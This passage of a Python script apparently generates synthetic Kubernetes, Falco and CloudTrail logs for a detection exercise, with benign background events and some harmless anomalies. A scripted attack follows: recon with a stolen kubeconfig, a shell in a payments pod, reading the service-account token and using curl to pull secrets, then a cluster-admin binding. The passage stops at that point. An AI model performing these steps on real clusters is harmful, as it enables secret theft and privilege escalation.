    cm = sa_user("cert-manager", "cert-manager")
    cm_ua = "cert-manager-controller/v1.14.4 (linux/amd64) cert-manager/f2c8b6ac5b"
    for t in random_times(12):
        if rng.random() < 0.5:
            k8s_event(t, "watch", cm, "10.0.21.51", cm_ua, "secrets", None,
                      query="labelSelector=controller.cert-manager.io%2Ffao%3Dtrue&resourceVersion="
                            + str(rng.randrange(48_000_000, 49_000_000)) + "&timeoutSeconds=530",
                      reason=rbac_reason("ClusterRoleBinding", "cert-manager-controller-certificates",
                                         "cert-manager-controller-certificates",
                                         'ServiceAccount "cert-manager/cert-manager"'))
        else:
            k8s_event(t, "update", cm, "10.0.21.51", cm_ua + "/leader-election", "leases",
                      "kube-system", "cert-manager-controller",
                      reason=rbac_reason("RoleBinding", "cert-manager:leaderelection/kube-system",
                                         "cert-manager:leaderelection",
                                         'ServiceAccount "cert-manager/cert-manager"', "Role"))
    # external-secrets refreshes the application secrets every 15 minutes (get + update).
    es = sa_user("external-secrets", "external-secrets")
    es_ua = "external-secrets/v0.9.13 (linux/amd64) kubernetes/$Format"
    targets = [("payments", "payments-db-credentials"), ("storefront", "web-session-key")]
    for t in times_every(2, 90, 1200, 20):
        for i, (namespace, name) in enumerate(targets):
            tt = t + i * 350_000_000
            reason = rbac_reason("ClusterRoleBinding", "external-secrets-controller",
                                 "external-secrets-controller",
                                 'ServiceAccount "external-secrets/external-secrets"')
            k8s_event(tt, "get", es, "10.0.12.140", es_ua, "secrets", namespace, name,
                      reason=reason)
            k8s_event(tt + 42_000_000, "update", es, "10.0.12.140", es_ua, "secrets", namespace,
                      name, reason=reason)


def background_developers():
    dev_reason = rbac_reason("RoleBinding", "developers/{ns}", "developer", 'Group "developers"')
    sessions = [
        ("dev-alice", 3.0, 7.5, ["payments"]),  # her own morning, from the office
        ("dev-bob", 10.5, 18.0, ["storefront"]),
        ("dev-carol", 24.0, 31.0, ["payments", "storefront"]),
        ("dev-bob", 49.0, 55.0, ["storefront"]),
        ("dev-carol", 63.0, 71.0, ["storefront"]),
        ("dev-bob", 80.0, 86.0, ["storefront", "payments"]),
    ]
    pods = {"payments": ["checkout-7d9f6b5c8-x2kqp", "ledger-5b8c9d7f6-m4wzr",
                         "checkout-7d9f6b5c8-pl8vn"],
            "storefront": ["web-5c6d8f7b9-qtz7m", "web-5c6d8f7b9-r7d2x", "search-84b9c6d7f5-zzt4c"]}
    for user, start, end, namespaces in sessions:
        for t in random_times(rng.randrange(5, 9), start, end):
            namespace = rng.choice(namespaces)
            action = rng.randrange(5)
            args = dict(reason=dev_reason)
            if action == 0:
                k8s_event(t, "list", DEVS[user], OFFICE[user], KUBECTL_DARWIN, "pods", namespace, **args)
            elif action == 1:
                k8s_event(t, "get", DEVS[user], OFFICE[user], KUBECTL_DARWIN, "pods", namespace,
                          rng.choice(pods[namespace]), **args)
            elif action == 2:
                k8s_event(t, "get", DEVS[user], OFFICE[user], KUBECTL_DARWIN, "pods", namespace,
                          rng.choice(pods[namespace]), subresource="log",
                          query="container=" + ("checkout" if namespace == "payments" else "web")
                                + "&tailLines=200", **args)
            elif action == 3:
                k8s_event(t, "list", DEVS[user], OFFICE[user], KUBECTL_DARWIN, "deployments",
                          namespace, **args)
            else:
                k8s_event(t, "list", DEVS[user], OFFICE[user], KUBECTL_DARWIN, "events", namespace,
                          query="fieldSelector=involvedObject.namespace%3D" + namespace
                                + "&limit=500", **args)


def rollout(start_min, namespace, deployment, image, labels, container_port):
    """CI patches a Deployment; controllers, scheduler and kubelets roll it out (2 new pods)."""
    ci = sa_user("ci", "ci-deployer")
    ci_reason = rbac_reason("RoleBinding", "ci-deployer/{ns}", "ci-deployer", 'ServiceAccount "ci/ci-deployer"')
    t = ns(start_min)
    k8s_event(t, "get", ci, CI_NAT_IP, KUBECTL_LINUX, "deployments", namespace, deployment,
              reason=ci_reason)
    t += 1_800_000_000 + rng.randrange(0, 400_000) * 1000
    patch = {"spec": {"template": {"spec": {"containers": [{"name": deployment, "image": image}]}}}}
    k8s_event(t, "patch", ci, CI_NAT_IP, KUBECTL_LINUX, "deployments", namespace, deployment,
              level="Request", request_object=patch, reason=ci_reason)
    rs_hash = alnum(10)
    old_rs = f"{deployment}-{alnum(10)}"
    rs_name = f"{deployment}-{rs_hash}"
    cm_ua = (f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/"
             "system:serviceaccount:kube-system:deployment-controller")
    t += 40_000_000
    k8s_event(t, "create", sa_user("kube-system", "deployment-controller"), CONTROL_PLANE_IP, cm_ua,
              "replicasets", namespace, code=201,
              reason=rbac_reason("ClusterRoleBinding", "system:controller:deployment-controller",
                                 "system:controller:deployment-controller",
                                 'ServiceAccount "deployment-controller/kube-system"'))
    rs_user = sa_user("kube-system", "replicaset-controller")
    rs_ua = (f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/"
             "system:serviceaccount:kube-system:replicaset-controller")
    rs_reason = rbac_reason("ClusterRoleBinding", "system:controller:replicaset-controller",
                            "system:controller:replicaset-controller",
                            'ServiceAccount "replicaset-controller/kube-system"')
    nodes = list(NODES)
    for i in range(2):
        t += 30_000_000 + rng.randrange(0, 20_000) * 1000
        pod_name = rs_name + "-" + alnum(5)
        owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs_name,
                 "uid": new_uuid(), "controller": True, "blockOwnerDeletion": True}
        req = pod_object(None, namespace, [container_spec(deployment, image,
                                                          ports=[container_port])],
                         labels=dict(labels, **{"pod-template-hash": rs_hash}), owner=owner,
                         service_account=deployment, generate_name=rs_name + "-")
        resp = pod_response(req, pod_name, t)
        k8s_event(t, "create", rs_user, CONTROL_PLANE_IP, rs_ua, "pods", namespace, code=201,
                  level="RequestResponse", request_object=req, response_object=resp,
                  reason=rs_reason,
                  extra_annotations={"pod-security.kubernetes.io/enforce-policy": "baseline:latest"})
        node = nodes[(i + start_min) % len(nodes)]
        tb = t + 12_000_000 + rng.randrange(0, 9000) * 1000
        k8s_event(tb, "create", SCHED_USER, CONTROL_PLANE_IP,
                  f"kube-scheduler/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/scheduler",
                  "pods", namespace, pod_name, subresource="binding", code=201,
                  reason=rbac_reason("ClusterRoleBinding", "system:kube-scheduler",
                                     "system:kube-scheduler", 'User "system:kube-scheduler"'))
        for k in range(2):
            tk = tb + (2 + 9 * k) * 1_000_000_000 + rng.randrange(0, 900_000) * 1000
            k8s_event(tk, "patch", node_user(node), NODES[node],
                      f"kubelet/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}", "pods",
                      namespace, pod_name, subresource="status", reason="")
    for i in range(2):
        t += 25_000_000_000 + rng.randrange(0, 4_000_000) * 1000
        k8s_event(t, "delete", rs_user, CONTROL_PLANE_IP, rs_ua, "pods", namespace,
                  f"{old_rs}-{alnum(5)}", reason=rs_reason)
    t += 3_000_000_000
    k8s_event(t, "get", ci, CI_NAT_IP, KUBECTL_LINUX, "deployments", namespace, deployment,
              query="", reason=ci_reason)


def node_join():
    """09:57: the autoscaler adds ip-10-0-47-201; its DaemonSet pods are privileged on purpose."""
    node, ip = NEW_NODE
    kubelet_ua = f"kubelet/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
    t = ns(57, 4.3)
    k8s_event(t, "create", {"username": "system:bootstrap:8n2kqf",
                            "groups": ["system:bootstrappers", "system:bootstrappers:worker",
                                       "system:authenticated"]},
              ip, kubelet_ua, "certificatesigningrequests", None, code=201,
              reason=rbac_reason("ClusterRoleBinding", "system:node-bootstrapper",
                                 "system:node-bootstrapper", 'Group "system:bootstrappers"'))
    t = ns(57, 6.9)
    k8s_event(t, "create", node_user(node), ip, kubelet_ua, "nodes", None, fqdn(node), code=201,
              reason="")
    ds_user = sa_user("kube-system", "daemon-set-controller")
    ds_ua = (f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/"
             "system:serviceaccount:kube-system:daemon-set-controller")
    ds_reason = rbac_reason("ClusterRoleBinding", "system:controller:daemon-set-controller",
                            "system:controller:daemon-set-controller",
                            'ServiceAccount "daemon-set-controller/kube-system"')
    daemonsets = [
        ("aws-node", "kube-system", PODS["aws-node@" + node]["repo"] + ":v1.16.4", True,
         [("cni-bin-dir", "/opt/cni/bin"), ("cni-net-dir", "/etc/cni/net.d"),
          ("xtables-lock", "/run/xtables.lock")]),
        ("kube-proxy", "kube-system", PODS["kube-proxy@" + node]["repo"] + ":v1.29.1-minimal-eksbuild.2",
         True, [("xtables-lock", "/run/xtables.lock"), ("lib-modules", "/lib/modules")]),
        ("node-exporter", "monitoring", "quay.io/prometheus/node-exporter:v1.7.0", None,
         [("root", "/"), ("proc", "/proc"), ("sys", "/sys")]),
        ("falco", "falco", "docker.io/falcosecurity/falco-no-driver:0.37.1", True,
         [("proc-fs", "/proc"), ("etc-fs", "/etc"), ("dev-fs", "/dev"),
          ("containerd-socket", "/run/containerd")]),
    ]
    t = ns(57, 7.6)
    for name, namespace, image, privileged, host_paths in daemonsets:
        t += 45_000_000 + rng.randrange(0, 30_000) * 1000
        pod_name = f"{name}-{alnum(5)}"
        if name in ("aws-node", "kube-proxy"):
            pod_name = PODS[f"{name}@{node}"]["pod"]
        volumes = [{"name": v, "hostPath": {"path": p, "type": ""}} for v, p in host_paths]
        mounts = [{"name": v, "mountPath": "/host" + p if p != "/" else "/host/root",
                   "readOnly": name in ("node-exporter", "falco")} for v, p in host_paths]
        if privileged is None:
            c = container_spec(name, image, mounts=mounts, ports=[9100])
        else:
            c = container_spec(name, image, privileged=privileged, mounts=mounts)
        owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": name, "uid": new_uuid(),
                 "controller": True, "blockOwnerDeletion": True}
        req = pod_object(None, namespace, [c], volumes=volumes,
                         labels={"app.kubernetes.io/name": name,
                                 "controller-revision-hash": hexid(10)},
                         owner=owner, service_account=name, host=name != "falco",
                         generate_name=name + "-",
                         tolerations=[{"operator": "Exists"}])
        req["spec"]["affinity"] = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
            "nodeSelectorTerms": [{"matchFields": [{"key": "metadata.name", "operator": "In",
                                                    "values": [fqdn(node)]}]}]}}}
        resp = pod_response(req, pod_name, t)
        k8s_event(t, "create", ds_user, CONTROL_PLANE_IP, ds_ua, "pods", namespace, code=201,
                  level="RequestResponse", request_object=req, response_object=resp,
                  reason=ds_reason,
                  extra_annotations={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"})
    # Falco on the new node reports the privileged system containers starting.
    for i, key in enumerate(("aws-node@" + node, "kube-proxy@" + node)):
        pod = PODS[key]
        te = ns(58, 21.0 + 7.5 * i) + rng.randrange(0, 999_999_999)
        proc = pod["container"] if key.startswith("kube-proxy") else "aws-k8s-agent"
        f = proc_fields(proc, "/usr/local/bin/" + proc, proc + (" --config=/var/lib/kube-proxy-config/config --hostname-override=" + fqdn(node) if proc == "kube-proxy" else ""),
                        "containerd-shim")
        msg = "Privileged container started (" + proc_message(f)
        falco_event(te, "Launch Privileged Container", "Informational", pod, msg, f,
                    ["maturity_incubating", "container", "cis", "mitre_execution", "T1610",
                     "PCI_DSS_10.2.5"])
    # Its images come from ECR.
    instance = "i-0" + hexid(16)
    for i, repo in enumerate(("amazon-k8s-cni", "eks/kube-proxy")):
        te = ns(57, 40 + 6 * i)
        cloudtrail(te, node_identity(instance), "ecr.amazonaws.com", "GetAuthorizationToken", ip,
                   "containerd/v1.7.11", request={"registryIds": ["602401143452"]}, response=None,
                   read_only=True)
        cloudtrail(te + 1_000_000_000, node_identity(instance), "ecr.amazonaws.com",
                   "BatchGetImage", ip, "containerd/v1.7.11",
                   request={"imageIds": [{"imageTag": "v1.16.4" if i == 0 else "v1.29.1-minimal-eksbuild.2"}],
                            "acceptedMediaTypes": ["application/vnd.docker.distribution.manifest.v2+json",
                                                   "application/vnd.oci.image.index.v1+json"],
                            "repositoryName": repo, "registryId": "602401143452"},
                   response=None)


def background_falco():
    flags = PODS["flags"]
    for t in random_times(6, 0, 90):
        proc = proc_fields("feature-flags-s", "/app/feature-flags-sync", "/app/feature-flags-sync --watch",
                           "containerd-shim", user="app", uid=10001)
        falco_connection(t, "Contact K8S API Server From Container", "Notice", flags, proc,
                         rng.randrange(32768, 60999), API_SERVER_SVC_IP, 443,
                         "Unexpected connection to K8s API Server from container",
                         ["maturity_stable", "container", "network", "k8s", "mitre_discovery",
                          "T1565"])
    for i, node in enumerate(NODES):
        pod = PODS["aws-node@" + node]
        for t in random_times(2, 0, 90):
            f = proc_fields("aws-k8s-agent", "/app/aws-k8s-agent", "/app/aws-k8s-agent",
                            "aws-vpc-cni", evt_type="setns")
            msg = "Namespace change (setns) by unexpected program (" + proc_message(f)
            falco_event(t, "Change thread namespace", "Notice", pod, msg, f,
                        ["maturity_incubating", "host", "container", "process",
                         "mitre_privilege_escalation", "T1611"])
    for t in random_times(3, 0, 90):
        pod = PODS["kube-proxy@" + rng.choice(list(NODES))]
        f = proc_fields("kube-proxy", "/usr/local/bin/kube-proxy", "kube-proxy --config=/var/lib/kube-proxy-config/config",
                        "containerd-shim", evt_type="socket")
        msg = "Packet socket was created in a container (socket_info=AF_PACKET " + proc_message(f)
        falco_event(t, "Packet socket created in container", "Notice", pod, msg, f,
                    ["maturity_stable", "container", "network", "mitre_credential_access",
                     "T1557.002"])
    builder = PODS["builder"]
    for t in (ns(18, 12.41), ns(73, 5.88)):
        f = proc_fields("apt-get", "/usr/bin/apt-get", "apt-get install -y --no-install-recommends jq",
                        "sh", user="root")
        msg = "Package management process launched in container (" + proc_message(f)
        falco_event(t + rng.randrange(0, 999_999) * 1000, "Launch Package Management Process in Container",
                    "Error", builder, msg, f,
                    ["maturity_sandbox", "container", "process", "software_mgmt",
                     "mitre_persistence", "T1505"])


def background_cloudtrail():
    dd = DATADOG_IDENTITY
    for t in times_every(0, 90, 480, 20):
        cloudtrail(t, dd, "ec2.amazonaws.com", "DescribeInstances", MONITORING_IP, DATADOG_UA,
                   request={"instancesSet": {}, "filterSet": {}}, response=None)
    for t in times_every(1, 90, 600, 30):
        cloudtrail(t, dd, "lambda.amazonaws.com", "ListFunctions20150331", MONITORING_IP, DATADOG_UA,
                   request=None, response=None)
    for t in times_every(2, 90, 600, 30):
        cloudtrail(t, dd, "tagging.amazonaws.com", "GetResources", MONITORING_IP, DATADOG_UA,
                   request={"resourceTypeFilters": ["lambda:function"], "resourcesPerPage": 100},
                   response=None)
    for t in times_every(4, 90, 900, 30):
        cloudtrail(t, dd, "eks.amazonaws.com", "DescribeCluster", MONITORING_IP, DATADOG_UA,
                   request={"name": "prod-eu-1"}, response=None)
    # The webhook function reads its configuration object from S3 (data events).
    for t in random_times(9):
        key = rng.choice(["config/payments-webhook.json", "config/allowed-origins.json"])
        cloudtrail(t, WEBHOOK_ROLE_IDENTITY, "s3.amazonaws.com", "GetObject", "10.0.101.37",
                   "[aws-sdk-python/1.34.51 ... Boto3/1.34.51 Botocore/1.34.51]",
                   request={"bucketName": "corp-payments-config", "Host":
                            "corp-payments-config.s3.eu-west-1.amazonaws.com", "key": key},
                   response=None, data_event=True,
                   resources=[{"type": "AWS::S3::Object",
                               "ARN": f"arn:aws:s3:::corp-payments-config/{key}"},
                              {"accountId": ACCOUNT, "type": "AWS::S3::Bucket",
                               "ARN": "arn:aws:s3:::corp-payments-config"}],
                   host="corp-payments-config.s3.eu-west-1.amazonaws.com")
    # KMS decrypts for the webhook's environment.
    for t in random_times(5):
        cloudtrail(t, WEBHOOK_ROLE_IDENTITY, "kms.amazonaws.com", "Decrypt", "lambda.amazonaws.com",
                   "lambda.amazonaws.com",
                   request={"encryptionAlgorithm": "SYMMETRIC_DEFAULT",
                            "encryptionContext": {"aws:lambda:FunctionArn": lambda_arn("payments-webhook")}},
                   response=None, read_only=True,
                   resources=[{"accountId": ACCOUNT, "type": "AWS::KMS::Key",
                               "ARN": f"arn:aws:kms:{REGION}:{ACCOUNT}:key/{new_uuid()}"}],
                   host="kms.eu-west-1.amazonaws.com")
    # Nodes pull application images during the rollouts.
    for t in (ns(21, 3.0), ns(74, 4.0)):
        for k in range(3):
            cloudtrail(t + k * 1_300_000_000, node_identity("i-0" + hexid(16)), "ecr.amazonaws.com",
                       ["GetAuthorizationToken", "BatchGetImage", "GetDownloadUrlForLayer"][k],
                       rng.choice(list(NODES.values())), "containerd/v1.7.11",
                       request={"registryIds": [ACCOUNT]} if k == 0 else
                       {"repositoryName": "storefront/web" if t < ns(60) else "payments/ledger",
                        "registryId": ACCOUNT},
                       response=None, read_only=True)


def benign_ci_and_admin():
    # CI: the runner assumes the deploy role, then the Lambda deploy user ships payments-webhook.
    for t in (ns(19, 40.0), ns(73, 2.0)):
        cloudtrail(t, RUNNER_IDENTITY, "sts.amazonaws.com", "AssumeRole", CI_NAT_IP,
                   cli_ua("sts.assume-role"),
                   request={"roleArn": f"arn:aws:iam::{ACCOUNT}:role/eks-ci-deployer",
                            "roleSessionName": "gha-" + str(rng.randrange(8_200_000_000, 8_300_000_000)),
                            "durationSeconds": 3600},
                   response={"credentials": {"accessKeyId": upper_id("ASIA"),
                                             "sessionToken": "IQoJb3JpZ2luX2VjE...",
                                             "expiration": "Mar 14, 2026, " + ("10:19:40 AM" if t < ns(60) else "11:13:02 AM")},
                             "assumedRoleUser": {"assumedRoleId": upper_id("AROA", 17) + ":gha",
                                                 "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/eks-ci-deployer/gha"}},
                   read_only=True, host="sts.eu-west-1.amazonaws.com")
    t = ns(20, 5.0)
    cloudtrail(t, CI_USER, "lambda.amazonaws.com", "UpdateFunctionCode20150331v2", CI_NAT_IP,
               cli_ua("lambda.update-function-code"),
               request={"fullyQualifiedArn": fq_arn("payments-webhook"),
                        "functionName": lambda_arn("payments-webhook"), "publish": False,
                        "dryRun": False},
               response=function_config("payments-webhook", t), read_only=False)
    t = ns(20, 31.0)
    cloudtrail(t, CI_USER, "lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2",
               CI_NAT_IP, cli_ua("lambda.update-function-configuration"),
               request={"functionName": "payments-webhook",
                        "environment": {}, "timeout": 30},
               response=function_config("payments-webhook", t, update_status="InProgress"),
               read_only=False)
    t = ns(20, 52.0)
    cloudtrail(t, CI_USER, "lambda.amazonaws.com", "GetFunction20150331v2", CI_NAT_IP,
               cli_ua("lambda.get-function"), request={"functionName": "payments-webhook"},
               response=None)
    # Terraform wires an API Gateway integration and an IAM-authenticated function URL.
    t = ns(48, 30.0)
    cloudtrail(t, TERRAFORM_IDENTITY, "lambda.amazonaws.com", "AddPermission20150331v2", CI_NAT_IP,
               "APN/1.0 HashiCorp/1.0 Terraform/1.7.4 (+https://www.terraform.io) "
               "terraform-provider-aws/5.40.0 aws-sdk-go-v2/1.25.2",
               request={"functionName": "orders-api", "statementId": "AllowAPIGatewayInvoke",
                        "action": "lambda:InvokeFunction", "principal": "apigateway.amazonaws.com",
                        "sourceArn": f"arn:aws:execute-api:{REGION}:{ACCOUNT}:k2x9q4m7b1/*/*/orders"},
               response={"statement": json.dumps({
                   "Sid": "AllowAPIGatewayInvoke", "Effect": "Allow",
                   "Principal": {"Service": "apigateway.amazonaws.com"},
                   "Action": "lambda:InvokeFunction", "Resource": lambda_arn("orders-api"),
                   "Condition": {"ArnLike": {"AWS:SourceArn":
                                             f"arn:aws:execute-api:{REGION}:{ACCOUNT}:k2x9q4m7b1/*/*/orders"}}},
                   separators=(",", ":"))},
               read_only=False)
    t = ns(48, 52.0)
    cloudtrail(t, TERRAFORM_IDENTITY, "lambda.amazonaws.com", "CreateFunctionUrlConfig20211031",
               CI_NAT_IP,
               "APN/1.0 HashiCorp/1.0 Terraform/1.7.4 (+https://www.terraform.io) "
               "terraform-provider-aws/5.40.0 aws-sdk-go-v2/1.25.2",
               request={"functionName": "orders-internal", "authType": "AWS_IAM"},
               response={"functionUrl": "https://" + alnum(32, "abcdefghijklmnopqrstuvwxyz0123456789")
                                        + f".lambda-url.{REGION}.on.aws/",
                         "functionArn": lambda_arn("orders-internal"), "authType": "AWS_IAM",
                         "creationTime": iso_us(t)[:-4] + "Z"},
               read_only=False)

    # Kubernetes CI: two rollouts and a metrics-reader binding.
    rollout(21, "storefront", "web", f"{ECR}/storefront/web:v5.3.1",
            {"app.kubernetes.io/name": "web", "app.kubernetes.io/part-of": "storefront"}, 8080)
    rollout(74, "payments", "ledger", f"{ECR}/payments/ledger:v3.8.0",
            {"app.kubernetes.io/name": "ledger", "app.kubernetes.io/part-of": "payments"}, 8443)
    ci = sa_user("ci", "ci-deployer")
    t = ns(26, 10.417)
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": "storefront-metrics-reader", "creationTimestamp": None},
           "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "storefront"}],
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                       "name": "view"}}
    resp = json.loads(json.dumps(crb))
    resp["metadata"] = {"name": "storefront-metrics-reader", "uid": new_uuid(),
                        "resourceVersion": "48213377", "creationTimestamp": iso_s(t)}
    k8s_event(t, "create", ci, CI_NAT_IP, KUBECTL_LINUX, "clusterrolebindings", None,
              "storefront-metrics-reader", code=201, level="RequestResponse",
              request_object=crb, response_object=resp,
              reason=rbac_reason("ClusterRoleBinding", "ci-deployer-rbac", "ci-deployer-rbac",
                                 'ServiceAccount "ci/ci-deployer"'))


def benign_oddities():
    """The few benign things that do match single rules, spread out so no correlation fires."""
    dev_reason = rbac_reason("RoleBinding", "developers/{ns}", "developer", 'Group "developers"')
    # 09:12 dev-bob debugs a storefront pod with a shell (exec + Falco shell), no secret access.
    web = PODS["web"]
    t = ns(12, 40.118)
    k8s_event(t, "create", DEVS["dev-bob"], OFFICE["dev-bob"], KUBECTL_DARWIN, "pods", "storefront",
              web["pod"], subresource="exec", code=101, level="Request", stage="ResponseStarted",
              uri=f"/api/v1/namespaces/storefront/pods/{web['pod']}/exec?command=bash&container=web"
                  "&stdin=true&stdout=true&tty=true",
              reason=dev_reason, latency_us=31250)
    falco_shell(t + 512_733_901, web, "bash")
    # Single denied requests by benign users: a developer, a developer, CI, an Internet scanner.
    k8s_event(ns(15, 22.604), "get", DEVS["dev-bob"], OFFICE["dev-bob"], KUBECTL_DARWIN, "secrets",
              "payments", "stripe-api-key", code=403)
    k8s_event(ns(52, 10.291), "list", DEVS["dev-carol"], OFFICE["dev-carol"], KUBECTL_DARWIN, "nodes",
              None, code=403)
    k8s_event(ns(71, 45.930), "patch", sa_user("ci", "ci-deployer"), CI_NAT_IP, KUBECTL_LINUX,
              "deployments", "kube-system", "coredns", code=403)
    k8s_event(ns(84, 30.077), "get", ANON_USER, SCANNER_IP, "Mozilla/5.0 zgrab/0.x", None,
              uri="/", code=403,
              status={"metadata": {}, "status": "Failure",
                      "message": 'forbidden: User "system:anonymous" cannot get path "/"',
                      "reason": "Forbidden", "details": {}, "code": 403})
    # Single AccessDenied errors in CloudTrail, far apart and from different callers.
    t = ns(8, 15.0)
    cloudtrail(t, DEV_SSO_IDENTITY, "ec2.amazonaws.com", "StopInstances", OFFICE["dev-carol"],
               "console.ec2.amazonaws.com",
               request={"instancesSet": {"items": [{"instanceId": "i-0a7c3e5f9b2d41c86"}]}, "force": False},
               error=("Client.UnauthorizedOperation", "You are not authorized to perform this operation. "
                      "User: " + DEV_SSO_IDENTITY["arn"] + " is not authorized to perform: "
                      "ec2:StopInstances on resource: arn:aws:ec2:eu-west-1:" + ACCOUNT
                      + ":instance/i-0a7c3e5f9b2d41c86 because no identity-based policy allows the "
                      "ec2:StopInstances action. Encoded authorization failure message: "
                      "4wKx9aQ3...truncated"),
               read_only=False)
    t = ns(41, 30.0)
    cloudtrail(t, DATADOG_IDENTITY, "s3.amazonaws.com", "GetBucketPolicy", MONITORING_IP, DATADOG_UA,
               request={"bucketName": "corp-payments-config", "Host": "corp-payments-config.s3.eu-west-1.amazonaws.com",
                        "policy": ""},
               error=("AccessDenied", "Access Denied"), read_only=True,
               host="corp-payments-config.s3.eu-west-1.amazonaws.com")
    t = ns(79, 50.0)
    cloudtrail(t, DATADOG_IDENTITY, "lambda.amazonaws.com", "GetPolicy20150331v2", MONITORING_IP,
               DATADOG_UA, request={"functionName": "payments-webhook"},
               error=("AccessDeniedException",
                      denied_message(DATADOG_IDENTITY["arn"], "lambda:GetPolicy",
                                     lambda_arn("payments-webhook"))),
               read_only=True)


# ============================================================================================
# The attack
# ============================================================================================

ALICE = DEVS["dev-alice"]


def attack_kubernetes():
    forbid = dict(code=403)
    # 1. Recon with dev-alice's stolen kubeconfig: what can I do? Then a burst of denied requests.
    k8s_event(ns(30, 48.207), "create", ALICE, ATTACKER_IP, ATTACKER_KUBECTL,
              "selfsubjectrulesreviews", None, code=201,
              reason=rbac_reason("ClusterRoleBinding", "system:basic-user", "system:basic-user",
                                 'Group "system:authenticated"'))
    k8s_event(ns(31, 2.514), "list", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "namespaces", None,
              reason=rbac_reason("ClusterRoleBinding", "developers-namespace-viewer",
                                 "namespace-viewer", 'Group "developers"'))
    denied = [
        (14.305, "list", "secrets", None, None),
        (21.811, "list", "nodes", None, None),
        (29.126, "get", "clusterroles", None, "cluster-admin"),
        (36.042, "list", "clusterrolebindings", None, None),
        (44.718, "list", "secrets", "kube-system", None),
        (52.233, "list", "pods", "kube-system", None),
        (61.907, "list", "serviceaccounts", None, None),
        (69.440, "get", "configmaps", "kube-system", "aws-auth"),
        (78.652, "list", "customresourcedefinitions", None, None),
        (87.019, "list", "deployments", "kube-system", None),
    ]
    for i, (sec, verb, resource, namespace, name) in enumerate(denied):
        # The 5th one reaches the collector 9 s late (a batching webhook backend).
        k8s_event(ns(31, sec), verb, ALICE, ATTACKER_IP, ATTACKER_KUBECTL, resource, namespace,
                  name, note="attack:recon-denied", delay_ns=9_000_000_000 if i == 4 else 0, **forbid)
    dev_reason = rbac_reason("RoleBinding", "developers/{ns}", "developer", 'Group "developers"')
    checkout = PODS["checkout"]
    k8s_event(ns(32, 40.388), "list", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "pods", "payments",
              reason=dev_reason)
    k8s_event(ns(33, 5.962), "get", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "pods", "payments",
              checkout["pod"], reason=dev_reason)

    # 2. Exec into checkout, shell, read the service-account token, use it against the API.
    t_exec = ns(36, 12.341)
    k8s_event(t_exec, "create", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "pods", "payments",
              checkout["pod"], subresource="exec", code=101, level="Request",
              stage="ResponseStarted",
              uri=f"/api/v1/namespaces/payments/pods/{checkout['pod']}/exec?command=sh"
                  "&container=checkout&stdin=true&stdout=true&tty=true",
              reason=dev_reason, latency_us=43117, note="attack:exec")
    # Falco's alert for the shell reaches the stream 7 s late.
    falco_shell(ns(36, 12.874512331), checkout, "sh", note="attack:shell",
                delay_ns=7_000_000_000)
    falco_read_sensitive(ns(36, 41.220019874), checkout,
                         "/var/run/secrets/kubernetes.io/serviceaccount/..2026_03_14_08_11_52.3189040447/token",
                         "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "cat", "sh",
                         note="attack:read-token")
    curl = proc_fields("curl", "/usr/bin/curl",
                       "curl -sk -H @/tmp/.h https://kubernetes.default.svc/api/v1/namespaces/payments/secrets",
                       "sh", tty=34816)
    falco_connection(ns(37, 30.331904117), "Contact K8S API Server From Container", "Notice",
                     checkout, curl, 51734, API_SERVER_SVC_IP, 443,
                     "Unexpected connection to K8s API Server from container",
                     ["maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"],
                     note="attack:api-contact")
    sa = sa_user("payments", "checkout", pod=checkout)
    sa_reason = rbac_reason("RoleBinding", "checkout/payments", "checkout-config-reader",
                            'ServiceAccount "checkout/payments"', "Role")
    k8s_event(ns(37, 30.412066), "list", sa, checkout["ip"], "curl/8.5.0", "secrets", "payments",
              query="", reason=sa_reason, note="attack:sa-secrets")
    k8s_event(ns(37, 44.108301), "get", sa, checkout["ip"], "curl/8.5.0", "secrets", "payments",
              "payments-db-credentials", reason=sa_reason, note="attack:sa-secrets")
    k8s_event(ns(37, 52.660914), "get", sa, checkout["ip"], "curl/8.5.0", "secrets", "payments",
              "stripe-api-key", reason=sa_reason, note="attack:sa-secrets")
    k8s_event(ns(38, 20.517443), "list", sa, checkout["ip"], "curl/8.5.0", "secrets", "kube-system",
              query="", code=403, note="attack:sa-denied")

    # 3. Privilege escalation: bind dev-alice to cluster-admin, then a privileged node pod.
    t = ns(44, 20.118532)
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": "ops-debug-admin", "creationTimestamp": None},
           "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "dev-alice"}],
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                       "name": "cluster-admin"}}
    resp = json.loads(json.dumps(crb))
    resp["metadata"] = {"name": "ops-debug-admin", "uid": new_uuid(), "resourceVersion": "48377102",
                        "creationTimestamp": iso_s(t)}
    k8s_event(t, "create", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "clusterrolebindings", None,
              "ops-debug-admin", code=201, level="RequestResponse", request_object=crb,
              response_object=resp,
              reason=rbac_reason("ClusterRoleBinding", "developers-rbac-editor", "rbac-editor",
                                 'Group "developers"'),
              note="attack:crb")
    admin_reason = rbac_reason("ClusterRoleBinding", "ops-debug-admin", "cluster-admin",
                               'User "dev-alice"')
